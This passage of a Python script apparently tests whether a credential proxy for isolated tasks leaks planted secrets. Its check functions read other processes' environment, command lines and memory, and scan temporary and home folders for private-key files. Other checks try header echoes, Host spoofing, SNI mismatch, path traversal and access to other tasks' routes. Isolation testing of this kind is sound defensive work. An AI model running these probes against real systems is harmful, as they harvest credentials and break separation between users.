    return ask(f"GET {path} HTTP/1.1\r\nHost: {asked}\r\nAuthorization: {key}\r\nConnection: close\r\n\r\n", secure)


def others():
    return [path for path in glob.glob("/proc/[0-9]*") if int(path[6:]) != os.getpid()]


@attack(K, "the environment of every process")
def _():
    return any(try_it(lambda p=p: leaks(text_of(p + "/environ", LITTLE))) for p in others() + ["/proc/self"])


@attack(K, "the command line of every process")
def _():
    return any(try_it(lambda p=p: leaks(text_of(p + "/cmdline", LITTLE))) for p in others())


def memory_leaks(path):
    with open(path + "/maps", encoding="utf-8", errors="replace") as maps, open(path + "/mem", "rb", buffering=0) as memory:
        for line in maps:
            if "[stack]" not in line and "[heap]" not in line:
                continue
            first, last = (int(one, 16) for one in line.split()[0].split("-"))
            memory.seek(first)
            if leaks(memory.read(min(last - first, 16 * LITTLE))):
                return True
    return None


@attack(K, "the memory of every other process")
def _():
    return any(try_it(lambda p=p: memory_leaks(p)) for p in others())


@attack(K, "files: of the proxy, of its authority, temporary ones")
def _():
    wanted = b"PRIVATE " + b"KEY"
    for top in ("/run", "/tmp", "/dev/shm", os.environ.get("HOME", "/root"), "."):
        for folder, _, names in os.walk(top):
            for name in names:
                path = os.path.join(folder, name)
                small = try_it(lambda p=path: os.path.isfile(p) and os.path.getsize(p) < LITTLE)
                data = try_it(lambda p=path: text_of(p, LITTLE)) if small else None
                if data and (leaks(data) or wanted in data):
                    return path
    return None


for NAME, PATH in (("in the answer", "/echo"), ("in a header", "/header"), ("in other spellings", "/coded"), ("in chunks of a byte", "/pieces"),
                   ("behind the last chunk", "/trailer")):
    attack(K, "an echo " + NAME)(lambda path=PATH: leaks(by_route(path).replace(b"\r\n1\r\n", b"")))


@attack(K, "an echo that is packed")
def _():
    data = by_route("/packed", "Accept-Encoding: gzip").partition(b"\r\n\r\n")[2]
    return leaks(gzip.decompress(data)) if data[:2] == b"\x1f\x8b" else None


@attack(K, "an echo a few bytes at a time")
def _():
    parts = [by_route("/range", f"Range: bytes={i}-{i + 2}").partition(b"\r\n\r\n")[2] for i in range(0, 48, 3)]
    return leaks(b"".join(parts)) if max(map(len, parts)) <= 3 else None


@attack(K, "an echo of TRACE")
def _():
    return leaks(by_route("/x", method="TRACE"))


@attack(K, "a cookie that is as good")
def _():
    return BAIT["forge"]["cookie"][::-1].encode() in by_route("/cookie")


@attack(K, "a redirect to somebody else's host")
def _():
    to = "http://%s/echo" % BAIT["forge"]["second"]
    where = re.search(rb"(?im)^location: *(\S+)", by_route("/redirect?" + to))
    return leaks(ask(f"GET {where[1].decode()} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")) if where else None


@attack(K, "somebody else's host, by Host of a route")
def _():
    return leaks(by_route("/echo", host=BAIT["forge"]["second"]))


@attack(K, "somebody else's host, by the proxy")
def _():
    to = BAIT["forge"]["second"]
    return leaks(ask(f"GET http://{to}/echo HTTP/1.1\r\nHost: {to}\r\nConnection: close\r\n\r\n"))


@attack(K, "somebody else's host, by Host in the tunnel of one that has a key")
def _():
    return leaks(in_tunnel(BAIT["forge"]["host"], BAIT["forge"]["second"]))


@attack(K, "the key of a host under another name (SNI)")
def _():
    return b"GET /front" in in_tunnel(BAIT["forge"]["host"], BAIT["forge"]["host"], "other.test", "/front")


@attack(K, "the forge with a key of the attacker's, beside its base URL")
def _():
    return b"of the attacker" in in_tunnel(BAIT["forge"]["base"], BAIT["forge"]["base"])


@attack(K, "a part of the forge that is above the base URL")
def _():
    return any(b"GET /admin" in (try_it(lambda p=p: by_route(p)) or b"") for p in ("/../admin", "/%2e%2e/admin", "/..%2fadmin"))


@attack(K, "a route of a task that is over")
def _():
    return b"GET /v1/echo" in by_route("/echo", route=BAIT["forge"]["old"])


@attack(K, "the route of another task, by the own proxy")
def _():
    return b"GET /v1/echo" in by_route("/echo", route=BAIT["forge"]["other"])


@attack(K, "the route of another task, by its socket")
def _():
    link = socket.socket(socket.AF_UNIX)
    link.connect(BAIT["forge"]["socket"])
    path = urllib.parse.urlsplit(BAIT["forge"]["other"]).path
    return b"GET /v1/echo" in ask(f"GET {path}/echo HTTP/1.1\r\nHost: 127.0.0.1:61080\r\nConnection: close\r\n\r\n", link)


# ---- running them ----
def one(function, results):
    try:
        got = function()
        text = {"got": str(got)[:80] if got else None, "why": "nothing to show"}
    except OSError as error:
        text = {"got": None, "why": error.strerror or str(error)}
    except (RuntimeError, ValueError) as error:     # what threading and resource make of EAGAIN, EPERM
        text = {"got": None, "why": str(error)}
    except Exception as error:      # of the row itself: shown, and counted as a mistake of the row
        text = {"got": None, "why": f"mistake: {type(error).__name__}: {error}"}
    os.write(results, json.dumps(text).encode())
    os._exit(0)


def try_row(row, private):
    ends = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(ends[0])
        signal.alarm(20)
        os.dup2(ends[1], 200)
        os.close(ends[1])
        if private:     # so that what succeeds is not seen by the next one
            call(272, NEWNS | NEWUTS)
            call(165, 0, b"/", 0, 0x44000, 0)
        one(row[2], 200)
    os.close(ends[1])
    _, status = os.waitpid(pid, 0)
    text = os.read(ends[0], 4096)
    os.close(ends[0])
    if text:
        return json.loads(text)
    return {"got": None, "why": f"ended by signal {status & 127}, exit {status >> 8}"}


def main():
    with open(sys.argv[1], encoding="ascii") as file:
        BAIT.update(json.load(file))
    wanted = set(BAIT["rows"])
    for row in ROWS:
        if f"{row[0]}: {row[1]}" not in wanted:
            continue
        got = try_row(row, BAIT["private"])
        print(json.dumps({"name": f"{row[0]}: {row[1]}", **got}), flush=True)
        if got["why"].startswith("mistake"):
            print(got["why"], file=sys.stderr)


if __name__ == "__main__":
    main()
